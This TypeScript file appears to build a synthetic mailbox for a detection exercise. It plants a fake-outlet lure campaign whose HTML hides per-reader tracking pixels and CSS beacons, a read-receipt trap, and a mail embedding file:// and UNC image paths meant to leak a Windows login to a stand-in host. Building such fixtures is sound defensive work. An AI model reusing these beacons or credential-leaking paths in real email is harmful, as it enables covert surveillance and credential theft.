/**
 * The planted campaign, after threat-facts 1 and 2.2: a made-up outlet with good authentication of its own domain
 * (TF-201), real-looking articles (TF-005), a hidden image with one token a reader, three waves in seventeen days. Wave 3
 * goes out through the same bulk service that honest newsletters use (TF-202). Beside it two lone mails of other senders.
 */

import {
  escapeHtml,
  type Header,
  header,
  multipart,
  type Part,
  type Script,
  textPart,
  wrapText,
} from "../../src/demo/compose.ts";
import { domainOf } from "../../src/demo/office.ts";
import { createRandom, HEX } from "../../src/demo/random.ts";
import { type Mailing, readerToken, services } from "../../src/demo/services.ts";
import { type LureArticle, lureArticles } from "./articles.ts";
import { quote } from "./correspondence.ts";
import { boundaryOf, copiesOf, type Delivery, type Letter } from "./letter.ts";
import type { OfficeMail } from "./mail.ts";
import { type Owner, type OwnerKey, owners, type Person } from "./people.ts";
import { messageIdAt } from "./trace.ts";

export const CAMPAIGN_DOMAIN = "continental-dispatch.example";
const SECOND_DOMAIN = "cd-pressroom.example";
const OUTLET = "Continental Dispatch";
const BULK_ACCOUNT = "mw48113";
const SCRIPT: Script = { charset: "utf-8", word: "Q", encoding: "quoted-printable" };

/** A reader of one lure. */
interface Target {
  readonly reader: OwnerKey;
  readonly opened: boolean;
  readonly forwarded?: true;
}

interface Lure {
  readonly wave: 1 | 2 | 3;
  readonly at: number;
  /** Index into `lureArticles`. */
  readonly article: number;
  readonly targets: readonly Target[];
}

const UNREAD = { reader: "member", opened: false } as const;

/** 6 + 5 + 6 messages. The member never opened one at work and opened three at home; the adviser opened four. */
const lures: readonly Lure[] = [
  {
    wave: 1,
    at: Date.UTC(2021, 0, 19, 8, 12),
    article: 0,
    targets: [UNREAD, { reader: "personal", opened: true }, { reader: "adviser", opened: true }],
  },
  {
    wave: 1,
    at: Date.UTC(2021, 0, 21, 8, 31),
    article: 1,
    targets: [UNREAD, { reader: "personal", opened: true }, { reader: "adviser", opened: true, forwarded: true }],
  },
  {
    wave: 2,
    at: Date.UTC(2021, 0, 26, 9, 3),
    article: 2,
    targets: [UNREAD, { reader: "personal", opened: false }, { reader: "adviser", opened: true }],
  },
  {
    wave: 2,
    at: Date.UTC(2021, 0, 28, 9, 47),
    article: 3,
    targets: [UNREAD, { reader: "adviser", opened: false }],
  },
  {
    wave: 3,
    at: Date.UTC(2021, 1, 2, 7, 55),
    article: 4,
    targets: [UNREAD, { reader: "personal", opened: true }, { reader: "adviser", opened: true }],
  },
  {
    wave: 3,
    at: Date.UTC(2021, 1, 4, 8, 20),
    article: 5,
    targets: [UNREAD, { reader: "personal", opened: false }, { reader: "adviser", opened: false }],
  },
];

const SENDERS: Readonly<Record<1 | 2 | 3, readonly [name: string, local: string]>> = {
  1: [OUTLET, "digest"],
  2: [`Clara Wendt, ${OUTLET}`, "c.wendt"],
  3: [`${OUTLET} Briefing`, "briefing"],
};

function senderOf(wave: 1 | 2 | 3): Person {
  const [name, local] = SENDERS[wave];
  return { owner: null, name, address: `${local}@${CAMPAIGN_DOMAIN}`, role: "", style: "alternative", script: SCRIPT };
}

export function campaign(): readonly OfficeMail[] {
  return lures.flatMap((lure) => lure.targets.flatMap((target) => plant(lure, target)));
}

/** The value in the loads of one copy that names its reader. */
function tokenOf(lure: Lure, reader: Owner): string {
  if (lure.wave === 1) return createRandom(`dispatch/${reader.address}`).text(24, HEX);
  if (lure.wave === 2) return Buffer.from(reader.address, "utf8").toString("base64url");
  return readerToken(BULK_ACCOUNT, reader.address);
}

function articleOf(lure: Lure): LureArticle {
  const article = lureArticles[lure.article];
  return article ?? { slug: "", headline: "", byline: "", paragraphs: [] };
}

function plant(lure: Lure, target: Target): readonly OfficeMail[] {
  const reader = owners[target.reader];
  const random = createRandom(`lure/${lure.article}/${target.reader}`);
  const letter: Letter = {
    from: senderOf(lure.wave),
    to: [reader],
    cc: [],
    subject: articleOf(lure).headline,
    at: lure.at + random.int(240_000),
    messageId: messageIdAt(lure.wave === 3 ? "mailwing.example" : CAMPAIGN_DOMAIN, lure.at, random),
    references: [],
    extra: lure.wave === 3 ? bulkHeaders(mailingOf(lure, reader)) : [header("X-Mailer", "Pressdesk 2.0")],
    body: lureBody(lure, reader),
    purpose: { kind: "campaign", wave: lure.wave, token: tokenOf(lure, reader), article: articleOf(lure).slug },
    flags: target.forwarded === true ? ["forwarded"] : [],
  };
  const delivered = copiesOf(letter, random, { ...routeOf(lure, reader), seen: target.opened });
  return target.forwarded === true ? [...delivered, ...passedOn(letter, lure, reader)] : delivered;
}

function mailingOf(lure: Lure, reader: Owner): Mailing {
  return { account: BULK_ACCOUNT, issue: String(lure.article), reader: reader.address, domain: CAMPAIGN_DOMAIN };
}

/** All that the service adds: it leaves List-Unsubscribe to the account, and this account set none. */
function bulkHeaders(mailing: Mailing): readonly Header[] {
  return services.mailwing.headers(mailing).map(([name, value]) => header(name, value));
}

function routeOf(lure: Lure, reader: Owner): Delivery {
  if (lure.wave !== 3) return { transit: { sendingHost: `mx1.${CAMPAIGN_DOMAIN}`, signedBy: [CAMPAIGN_DOMAIN] } };
  const random = createRandom(`route/${lure.article}/${reader.address}`);
  return {
    envelopeFrom: `bounce+${random.text(10, HEX)}@bounces.mailwing.example`,
    transit: {
      sendingHost: `out${1 + random.int(4)}.mailwing.example`,
      signedBy: [CAMPAIGN_DOMAIN, "mailwing.example"],
    },
  };
}

function lureBody(lure: Lure, reader: Owner): Part {
  const article = articleOf(lure);
  const random = createRandom(`boundary/${lure.article}/${reader.address}`);
  const text = `${article.headline}\n\n${article.paragraphs.join("\n\n")}\n\n${OUTLET}\n`;
  return multipart("alternative", boundaryOf(random), [
    textPart("plain", wrapText(text, 74), SCRIPT),
    textPart("html", lureHtml(lure, reader), SCRIPT),
  ]);
}

function lureHtml(lure: Lure, reader: Owner): string {
  const article = articleOf(lure);
  const paragraphs = article.paragraphs.map((paragraph) => `<p>${escapeHtml(paragraph)}</p>`).join("\n");
  return `<html>
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family: Georgia, serif">
<table width="640" align="center"><tr><td style="${cellStyle(lure, reader)}">
<h3 style="letter-spacing: 2px">CONTINENTAL DISPATCH</h3>
<img src="https://media.${CAMPAIGN_DOMAIN}/photo/${article.slug}.jpg" width="600" height="320" alt="">
<h1>${escapeHtml(article.headline)}</h1>
<p><i>By ${escapeHtml(article.byline)}</i></p>
${paragraphs}
<p><a href="${escapeHtml(readOnUrl(lure, reader))}">Continue reading</a></p>
</td></tr></table>
${beacon(lure, reader)}
</body>
</html>
`;
}

/** One article of wave 2 has a second beacon, as a CSS background (RL-05). */
function cellStyle(lure: Lure, reader: Owner): string {
  const token = tokenOf(lure, reader);
  const background = `background-image: url('https://img.${SECOND_DOMAIN}/bg.gif?r=${token}')`;
  return lure.article === 3 ? `padding: 12px; ${background}` : "padding: 12px";
}

function beacon(lure: Lure, reader: Owner): string {
  const token = tokenOf(lure, reader);
  if (lure.wave === 1) {
    const url = `https://media.${CAMPAIGN_DOMAIN}/i/${lure.article + 1}/${token}.png`;
    return `<img src="${url}" width="1" height="1" style="display:none" alt="">`;
  }
  if (lure.wave === 2) {
    return `<div style="max-height:0;overflow:hidden"><img src="https://img.${SECOND_DOMAIN}/v.gif?r=${token}" width="1" height="1" alt=""></div>`;
  }
  return `<img src="${services.mailwing.pixel(mailingOf(lure, reader))}" ${services.mailwing.pixelMarkup}>`;
}

function readOnUrl(lure: Lure, reader: Owner): string {
  const page = `https://www.${CAMPAIGN_DOMAIN}/2021/${articleOf(lure).slug}`;
  return lure.wave === 3 ? services.mailwing.click(mailingOf(lure, reader), page) : page;
}

/** The adviser passes one lure on to the press officer, beacon and all: the same token from one more desk (EX-10). */
function passedOn(lureLetter: Letter, lure: Lure, reader: Owner): readonly OfficeMail[] {
  const random = createRandom("lure-forward");
  const at = lureLetter.at + 3 * 3_600_000;
  const note = "Anneke, have you come across this paper? They are well informed about the tender. Worth a call?";
  const original = quote({ from: lureLetter.from, at: lureLetter.at, text: articleOf(lure).paragraphs.join("\n\n") });
  const html = lureHtml(lure, reader).replace(
    /<body[^>]*>/,
    (tag) => `${tag}\n<p>${escapeHtml(note)}</p>\n<p>---- Forwarded message ----</p>`,
  );
  const body = multipart("alternative", boundaryOf(random), [
    textPart("plain", wrapText(`${note}\n\nPriya\n\n${original}\n`, 74), SCRIPT),
    textPart("html", html, SCRIPT),
  ]);
  return copiesOf(
    {
      from: reader,
      to: [owners.press],
      cc: [],
      subject: `Fwd: ${lureLetter.subject}`,
      at,
      messageId: messageIdAt(domainOf(reader.address), at, random),
      references: [lureLetter.messageId],
      extra: [],
      body,
      purpose: { kind: "campaign-forward", forwards: lureLetter.messageId },
      flags: [],
    },
    random,
    { seen: true },
  );
}

function stranger(name: string, address: string): Person {
  return { owner: null, name, address, role: "", style: "plain", script: SCRIPT };
}

/** Two mails that belong to no campaign: a receipt that would go to a third domain, and an image on a file share. */
export function loneMails(): readonly OfficeMail[] {
  return [...receiptLure(), ...shareLure()];
}

/** RL-40: the receipt goes to a domain that is not the sender's (trap of LK-06). */
function receiptLure(): readonly OfficeMail[] {
  const random = createRandom("lone-receipt");
  const at = Date.UTC(2021, 4, 11, 13, 22);
  const from = stranger("Dr. Helene Amstad", "h.amstad@straits-studies.example");
  const text =
    "Dear Ms Castellane,\n\nI chair a small working group on the Straits dialogue and would value your view on two of our draft questions. They are not for publication. May I send them to you, and is this the best address?\n\nWith kind regards,\nHelene Amstad\n";
  const letter: Letter = {
    from,
    to: [owners.adviser],
    cc: [],
    subject: "Two questions on the Straits dialogue",
    at,
    messageId: messageIdAt("straits-studies.example", at, random),
    references: [],
    extra: [header("Disposition-Notification-To", "<confirm@reading-desk.test>")],
    body: textPart("plain", wrapText(text, 74), SCRIPT),
    purpose: { kind: "lone", vector: "RL-40" },
    flags: [],
  };
  return copiesOf(letter, random, { seen: true });
}

/** RL-31 and TF-107: opening it may send a Windows log-in to the share. */
function shareLure(): readonly OfficeMail[] {
  const random = createRandom("lone-share");
  const at = Date.UTC(2021, 8, 7, 10, 5);
  const from = stranger("Conference Registration", "registration@harbour-forum.test");
  const html = `<html><body>
<p>Dear Mr Abarra,</p>
<p>The room list for the Harbour Forum is ready. Please check the entry of your office.</p>
<img src="file://203.0.113.77/pub/forum-logo.png" width="120" height="40" alt="Harbour Forum">
<img src="\\\\files.harbour-forum.test\\pub\\line.png" width="1" height="1" alt="">
<p>The organisers</p>
</body></html>
`;
  const letter: Letter = {
    from,
    to: [owners.scheduler],
    cc: [],
    subject: "Room list, Harbour Forum",
    at,
    messageId: messageIdAt("harbour-forum.test", at, random),
    references: [],
    extra: [],
    body: textPart("html", html, SCRIPT),
    purpose: { kind: "lone", vector: "RL-31" },
    flags: [],
  };
  return copiesOf(letter, random, { seen: true, transit: { signedBy: [], spf: "none" } });
}
